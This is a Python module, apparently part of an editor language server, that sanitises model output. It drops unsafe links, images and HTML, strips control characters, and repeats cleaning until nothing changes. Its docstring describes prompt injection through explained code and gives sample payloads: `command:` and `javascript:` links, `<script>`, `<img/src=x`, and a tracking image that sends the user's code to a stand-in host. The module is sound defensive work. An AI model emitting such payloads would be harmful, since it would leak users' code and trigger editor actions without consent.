"""Model output made safe and tidy before it reaches the editor. Pure functions: no I/O.

`clean_output(text)` trims leading chatter ("Sure! Here's the explanation:"), unwraps an answer
wrapped whole in a ```markdown fence, closes code fences left open, removes links whose target
is not http(s) (keeping their text), images, and raw HTML that could run or load anything,
collapses runs of blank lines, strips trailing spaces and caps the length at a paragraph or
line boundary with a note saying how much was cut. `footer(model, fallbacks)` is the line that
says which model answered.

Why it is strict: model output is untrusted. A prompt injected through the code or the
diagnostic being explained can make a model emit `command:` links, `javascript:` URLs, tracking
images (`![](https://host/?q=<your code>)` loads by itself) or `<script>`. Editors guard too
(VS Code renders hovers untrusted), but not every client does.

How it reads Markdown: as CommonMark, markdown-it and marked do where safety depends on it, and
where they could differ it cleans rather than spares, or rewrites the text so that they cannot.
- Code is left verbatim only where it is certainly code: fenced blocks and one-line code spans.
  A fence counts when its opener is indented at most 3 columns past the list item holding it,
  has no tab before it, and is no table header (markdown-it reads `x|` over `---` as one). It
  ends at its closing fence, written out again at the opener's indent so that every renderer
  agrees; after a list it also ends at a line indented less than its opener (the item is over),
  and is closed there; a fence-like line that is no fence here gets a backslash before its
  fence, so that it is none for any renderer either. A code span counts only on one line,
  outside raw HTML, and without `|` in a paragraph with a table rule (a table row splits at
  `|` first). Backticks that a renderer could pair otherwise (across lines, in a table row,
  inside a bare URL or right after a tilde, both text for marked, in raw HTML) are escaped
  (`\\``) when anything later could close them, so no renderer can make code of cleaned text
  or text of kept code. Indented code blocks are read as prose.
- After a line that starts with `<` and a letter, the rest of its paragraph is raw HTML, as for
  a renderer: no code spans there, and `\\<` escapes nothing (nor in a bare URL, for marked).
- Links: `[text](target)` keeps only `text` unless the target starts with http:// or https://
  (relative targets go too); if the target does not even parse, the brackets go, so no lenient
  renderer can make a link of it, and a `](` with no `[` before it is escaped. Autolinks other
  than http(s) (`<command:...>`, `<mailto:...>`, `<a@b.c>`) are removed. Reference definitions
  with such a target are escaped (`\\[ref]: command:x`), so `[text][ref]` stays text. Images
  are replaced by their alt text (`![alt][ref]` is escaped): an image loads without a click.
- HTML: tags that can run, load, embed or link anything (`script`, `iframe`, `img`, `a`, `svg`,
  `form`, `pre`, ...) are dropped, their text kept (a `script` or `style` element on one line
  goes whole); a short list of formatting tags (`b`, `kbd`, `sub`, `details`, ...) stays, minus
  attributes. Comments, declarations and processing instructions are dropped. Any other `<`
  followed by a letter, `/`, `!` or `?` is shown as text (`&lt;`): the `<String>` of
  `Vec<String>` outside backticks, and what a browser might still read as a tag (`<img/src=x`,
  a tag that goes on over the next line).
- Leading chatter goes only as whole sentences at the very start, and only when what follows
  starts a new sentence or line: "Sure! The variable..." loses "Sure!", but "Sure enough, the
  variable...", "Certainly, the variable..." and "Here's the fix:" stay. "As an AI language
  model, I can't run code." goes whole; "As an AI language model, the error..." loses only
  the opening clause. An answer that is nothing but chatter is kept.
- Blank lines: runs outside fences become one blank line; inside a fence they are code.
- Terminal control sequences, other control characters and bidirectional overrides are removed.

Cleaning is repeated until nothing changes, so `clean_output` is idempotent and its result
contains nothing its own reading would still clean.

The parts: `clean_preamble` (chatter, a wrapping fence), `clean_blocks` (fences and prose),
`clean_inline` (links, images, HTML and code spans in prose, with `clean_links` and
`clean_html`) and `clean_length` (the cap and its note). This module puts them together.
"""

from __future__ import annotations

import re

from dexter_ls.prompting.clean.blocks import Prose, clean_fence, parse, trim_blank_edges
from dexter_ls.prompting.clean.footer import footer
from dexter_ls.prompting.clean.inline import clean_prose
from dexter_ls.prompting.clean.length import shorten
from dexter_ls.prompting.clean.preamble import strip_preamble

MAX_CHARS = 6000
MIN_CHARS = 100  # room for the shortening note and some of the answer
_SETTLE_PASSES = 40
_INPUT_FACTOR = 8  # input beyond max(8 * max_chars, 50_000) is cut before cleaning
_INPUT_FLOOR = 50_000
__all__ = ["MAX_CHARS", "MIN_CHARS", "clean_output", "footer"]

# --- normalising ---------------------------------------------------------------------------

_CONTROL = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI sequences (colours, cursor moves)
    r"|\x1b\][^\x07\x1b\n]*(?:\x07|\x1b\\)?"  # OSC sequences (titles, hyperlinks)
    r"|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
)


def _normalise(text: str) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return _CONTROL.sub("", text)


# --- the whole ------------------------------------------------------------------------------


def _clean_once(text: str) -> str:
    text = strip_preamble(_normalise(text))
    out: list[str] = []
    for block in parse(text.split("\n")):
        out.extend(clean_prose(block) if isinstance(block, Prose) else clean_fence(block))
    return "\n".join(trim_blank_edges(out))


def _settle(text: str) -> str:
    """Clean until nothing changes. Each pass undoes what the last one's removals put
    together (`<<script>script>`); text nested deeper than any answer is shown as code."""
    current = text
    for _ in range(_SETTLE_PASSES):
        new = _clean_once(current)
        if new == current:
            return new
        current = new
    return _inert(text)


def _inert(text: str) -> str:
    """Text as one code block that no line of it can close: shown, never rendered."""
    lines = trim_blank_edges([line.rstrip() for line in _normalise(text).split("\n")])
    longest = max((len(run) for run in re.findall("~+", text)), default=0)
    fence = "~" * max(3, longest + 1)
    return "\n".join([fence, *lines, fence])


def clean_output(text: str, max_chars: int = MAX_CHARS) -> str:
    """Model output ready to show: see the module docstring for every rule."""
    if max_chars < MIN_CHARS:
        raise ValueError(f"max_chars must be at least {MIN_CHARS}, not {max_chars}")
    hard_limit = max(max_chars * _INPUT_FACTOR, _INPUT_FLOOR)
    dropped = max(len(text) - hard_limit, 0)  # far past the cap: never worth cleaning
    cleaned = _settle(text[:hard_limit])
    if len(cleaned) <= max_chars and not dropped:
        return cleaned
    limit = max_chars
    while True:  # cleaning the shortened text may lengthen it (`<` -> `&lt;`): retry shorter
        shortened = _settle(shorten(cleaned, limit, dropped))
        if len(shortened) <= max_chars:
            return shortened
        limit -= len(shortened) - max_chars
